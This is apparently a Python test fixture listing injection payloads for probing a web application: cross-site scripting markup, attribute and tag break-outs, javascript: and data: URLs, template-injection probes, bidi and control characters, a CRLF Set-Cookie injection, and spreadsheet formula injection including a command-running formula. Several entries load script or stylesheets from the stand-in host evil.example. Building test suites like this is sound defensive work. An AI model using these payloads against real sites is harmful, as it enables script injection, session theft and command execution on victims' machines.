"""Texts that would do something where a page, a file or a query took them for more than texts.

Each that is markup names MARK in what it would bring in, so that a page can be searched for it.
"""

MARK = "pwned"

MARKUP = (
    "<script>pwned()</script>",
    "<SCRIPT SRC=//evil.example/pwned.js></SCRIPT>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    '<img src=x onerror="pwned()">',
    "<img src=x onerror=pwned()//",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    '<svg><a xlink:href="javascript:pwned()"><text>x</text></a></svg>',
    "<body onload=pwned()>",
    "<iframe src=javascript:pwned()></iframe>",
    '<iframe srcdoc="<script>pwned()</script>"></iframe>',
    "<object data=javascript:pwned()></object>",
    '<a href="javascript:pwned()">x</a>',
    '<a href="java\tscript:pwned()">x</a>',
    "<form action=javascript:pwned()><button>x</button></form>",
    "<input autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()>",
    "<video><source onerror=pwned()></video>",
    "<math><mi//xlink:href='data:x,<script>pwned()</script>'>",
    "<style>@import '//evil.example/pwned.css'</style>",
    "<link rel=stylesheet href=//evil.example/pwned.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/pwned'>",
    "<base href=//evil.example/pwned/>",
    '<div hx-get="/pwned" hx-trigger="load"></div>',
    '<div data-hx-post="/pwned" data-hx-trigger="load"></div>',
    "<div hx-on:click='pwned()' hx-on::load='pwned()'></div>",
    "<pwned-element></pwned-element>",
)
BREAKING_OUT = (
    "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</template><script>pwned()</script>",
    "</bdi></td></tr></table><script>pwned()</script>",
    "--><script>pwned()</script>",
    "]]><script>pwned()</script>",
    '" onmouseover="pwned()" x="',
    "' onmouseover='pwned()' x='",
    "` onmouseover=`pwned()` x=`",
    '"><script>pwned()</script>',
    "'><script>pwned()</script>",
    '" hx-get="/pwned" hx-trigger="load" x="',
    "&#34;&gt;&lt;script&gt;pwned()&lt;/script&gt;",
    "&quot; onclick=&quot;pwned()",
    '\\"><script>pwned()</script>',
    "</script><script>pwned()</script>",
)
ADDRESSES = (
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    "data:text/html,<script>pwned()</script>",
    "//evil.example/pwned",
    "../../pwned/",
    "?entry=pwned&last=all#pwned",
)
TEMPLATES = (
    "{{ 7|add:7 }}{% load pwned %}",
    "{% include 'pwned.html' %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "__prefix__",
    "%(pwned)s %s {0.__class__}",
)
STRANGE = (
    "\u202epwned\u2066\u202d",
    "\u200f\u061cpwned\u2069",
    "pwned\u0000pwned",
    "\x1b[31mpwned\x1b]0;pwned\x07",
    "\r\nSet-Cookie: pwned=1\r\n",
    "\ufeff\ufffe\uffffpwned",
    "Z\u0351\u036b\u0343" * 40,
    "\U000e0070\U000e0077\U000e006e",
)
FORMULAS = ("=cmd|'/c calc'!A0", "+1+pwned", "-1+pwned", "@SUM(pwned)", "\t=1+1", "\r=1+1")

PAYLOADS = (*MARKUP, *BREAKING_OUT, *ADDRESSES, *TEMPLATES, *STRANGE, *FORMULAS)
# The names of fields cannot hold NUL, and no dot or dollar sign that the server takes for its own.
NAMES = tuple(text for text in PAYLOADS if "\0" not in text and not text.startswith("$"))
